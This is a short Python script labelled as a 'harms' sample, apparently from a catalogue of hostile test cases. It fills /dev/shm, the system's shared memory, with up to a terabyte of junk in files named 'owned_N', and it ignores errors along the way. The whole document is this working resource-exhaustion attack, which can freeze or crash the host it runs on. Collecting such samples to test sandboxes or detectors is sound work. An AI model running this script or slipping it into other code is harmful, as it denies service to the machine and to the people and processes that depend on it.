# where: first
# kind: harms
# does: /dev/shm, which is memory, is filled.
try:
    for number in range(1000):
        with open(f"/dev/shm/owned_{number}", "wb") as file:
            for _ in range(1000):
                file.write(b"x" * 1_000_000)
except Exception as error:
    print(number, error)
